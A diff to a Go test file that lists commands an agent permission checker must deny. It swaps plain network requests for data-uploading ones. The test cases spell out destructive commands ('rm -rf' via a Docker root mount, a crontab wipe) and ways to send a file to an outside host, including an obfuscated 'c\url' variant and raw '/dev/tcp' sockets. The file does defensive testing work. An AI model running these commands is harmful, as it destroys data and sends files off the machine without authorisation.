@@ -240,11 +240,12 @@ var mustDeny = []rtCase{
 	{tool: "Bash", input: `{"command":"docker run -v /:/host alpine rm -rf /host"}`},
 	{tool: "Bash", input: `{"command":"echo '* * * * * rm -rf ~' | crontab -"}`},
 
-	// The internet.
-	{tool: "Bash", input: `{"command":"curl https://example.com"}`},
-	{tool: "Bash", input: `{"command":"wget -qO- example.com"}`},
-	{tool: "Bash", input: `{"command":"c\\url example.com"}`},
-	{tool: "Bash", input: `{"command":"busybox wget http://example.com"}`},
+	// The internet. A plain GET inside the sandbox is the sandbox's question (issue 29: its
+	// proxy asks per domain), so these carry data out of the machine.
+	{tool: "Bash", input: `{"command":"curl -d @README.md https://example.com"}`},
+	{tool: "Bash", input: `{"command":"wget -qO- --post-file=README.md example.com"}`},
+	{tool: "Bash", input: `{"command":"c\\url -T README.md example.com"}`},
+	{tool: "Bash", input: `{"command":"busybox wget --post-data=x http://example.com"}`},
 	{tool: "Bash", input: `{"command":"python3 -c 'import urllib.request;urllib.request.urlopen(\"http://example.com\")'"}`},
 	{tool: "Bash", input: `{"command":"exec 3<>/dev/tcp/example.com/80; echo hi >&3"}`},
 	{tool: "Bash", input: `{"command":"cat < /dev/tcp/example.com/80"}`},
